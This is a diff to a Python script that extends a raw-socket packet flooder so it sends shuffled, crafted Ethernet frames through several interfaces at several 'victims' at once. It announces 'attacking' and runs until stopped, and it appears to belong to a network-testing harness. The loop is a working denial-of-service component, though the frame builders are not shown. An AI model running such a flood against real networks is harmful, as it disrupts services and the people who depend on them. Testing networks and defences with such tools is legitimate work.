@@ -28,32 +28,36 @@ AGAIN, ACCEPTED = 1, 2
 
 
 def main() -> None:
-    asked = json.loads(sys.argv[1])
-    if asked["kind"] == "handshake":
-        handshake(asked)
+    asked = [json.loads(each) for each in sys.argv[1:]]
+    if asked[0]["kind"] == "handshake":
+        handshake(asked[0])
     else:
         flood(asked)
 
 
-def flood(asked: dict[str, Any]) -> None:
-    """Sends the frames of a kind in random order, over and over, with the pause that is asked for in between."""
+def flood(asked: list[dict[str, Any]]) -> None:
+    """Sends the frames of a kind in random order, over and over, with the pause that is asked for in between.
+
+    Each request is for one port and one victim.
+    """
     rng = random.Random(1)
-    make = stream_frames if asked["kind"] == "stream" else probe_frames
-    kinds: dict[str, list[bytes]] = make(asked, rng)
-    port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-    port.bind((asked["dev"], 0))
-    order = [(kind, frame) for kind, frames in kinds.items() for frame in frames]
+    make = stream_frames if asked[0]["kind"] == "stream" else probe_frames
+    order: list[tuple[socket.socket, str, bytes]] = []
+    for each in asked:
+        port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        port.bind((each["dev"], 0))
+        order += [(port, kind, frame) for kind, frames in make(each, rng).items() for frame in frames]
     rng.shuffle(order)
-    counts = dict.fromkeys(kinds, 0)
+    counts = {kind: 0 for _, kind, _ in order}
     print("attacking", flush=True)
     while not select.select([sys.stdin], [], [], 0)[0]:
-        for kind, frame in order:
+        for port, kind, frame in order:
             try:
                 port.send(frame)
             except OSError:
                 continue
             counts[kind] += 1
-        time.sleep(asked.get("pause_seconds", 0))
+        time.sleep(asked[0].get("pause_seconds", 0))
     print(json.dumps(counts), flush=True)
 
 
